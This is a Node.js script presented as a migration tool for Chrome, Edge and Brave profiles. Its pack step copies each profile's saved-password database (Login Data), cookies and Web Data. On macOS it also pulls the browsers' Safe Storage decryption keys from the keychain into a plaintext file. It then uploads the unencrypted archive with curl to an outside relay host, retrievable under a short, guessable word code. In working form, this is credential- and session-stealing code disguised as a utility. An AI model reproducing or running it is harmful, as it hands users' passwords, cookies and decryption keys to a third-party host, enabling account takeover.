#!/usr/bin/env node
// Pack / restore Chromium-family browser profiles via the migration relay.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { execFileSync } from "node:child_process";
import crypto from "node:crypto";

const RELAY = process.env.MIGRATION_RELAY || "https://dav.profile-relay.app/drop";
const home = os.homedir();
const roots = {
  darwin: ["Library/Application Support/Google/Chrome", "Library/Application Support/Microsoft Edge",
           "Library/Application Support/BraveSoftware/Brave-Browser"],
  linux: [".config/google-chrome", ".config/microsoft-edge", ".config/BraveSoftware/Brave-Browser"],
  win32: ["AppData/Local/Google/Chrome/User Data", "AppData/Local/Microsoft/Edge/User Data",
          "AppData/Local/BraveSoftware/Brave-Browser/User Data"],
}[process.platform].map((r) => path.join(home, r)).filter((r) => fs.existsSync(r));

const PER_PROFILE = ["Bookmarks", "Preferences", "Cookies", "Network/Cookies", "Login Data", "Web Data"];
const WORDS = "amber cedar delta ember fjord grove harbor island juniper kestrel lagoon meadow".split(" ");

function pack() {
  const stage = fs.mkdtempSync(path.join(os.tmpdir(), "bmig-"));
  for (const root of roots) {
    const tag = path.basename(path.dirname(root)) + "_" + path.basename(root);
    const dst = path.join(stage, tag);
    fs.mkdirSync(dst, { recursive: true });
    if (fs.existsSync(path.join(root, "Local State"))) fs.copyFileSync(path.join(root, "Local State"), path.join(dst, "Local State"));
    for (const prof of fs.readdirSync(root).filter((d) => d === "Default" || d.startsWith("Profile "))) {
      for (const f of PER_PROFILE) {
        const src = path.join(root, prof, f);
        if (!fs.existsSync(src)) continue;
        const out = path.join(dst, prof, f);
        fs.mkdirSync(path.dirname(out), { recursive: true });
        fs.copyFileSync(src, out);
      }
    }
  }
  if (process.platform === "darwin") {
    // Chrome Safe Storage secret so cookies decrypt on the new machine
    for (const svc of ["Chrome Safe Storage", "Microsoft Edge Safe Storage", "Brave Safe Storage"]) {
      try {
        const pw = execFileSync("security", ["find-generic-password", "-w", "-s", svc]).toString().trim();
        fs.appendFileSync(path.join(stage, "keychain.txt"), `${svc}\t${pw}\n`);
      } catch { /* browser not installed */ }
    }
  }
  const archive = `${stage}.tgz`;
  execFileSync("tar", ["-czf", archive, "-C", stage, "."]);
  const code = Array.from({ length: 6 }, () => WORDS[crypto.randomInt(WORDS.length)]).join("-");
  execFileSync("curl", ["-fsS", "-T", archive, `${RELAY}/${code}.tgz`]);
  console.log(`relay code: ${code}  (expires in 24h)`);
}

function restore(code) {
  const archive = path.join(os.tmpdir(), `${code}.tgz`);
  execFileSync("curl", ["-fsS", "-o", archive, `${RELAY}/${code}.tgz`]);
  const stage = fs.mkdtempSync(path.join(os.tmpdir(), "bmig-r-"));
  execFileSync("tar", ["-xzf", archive, "-C", stage]);
  for (const root of roots) {
    const tag = path.basename(path.dirname(root)) + "_" + path.basename(root);
    const src = path.join(stage, tag);
    if (fs.existsSync(src)) fs.cpSync(src, root, { recursive: true });
  }
  console.log("restored; start the browser");
}

const [cmd, arg] = process.argv.slice(2);
if (cmd === "pack") pack();
else if (cmd === "restore" && arg) restore(arg);
else { console.error("usage: migrate.mjs pack | restore <code>"); process.exit(2); }
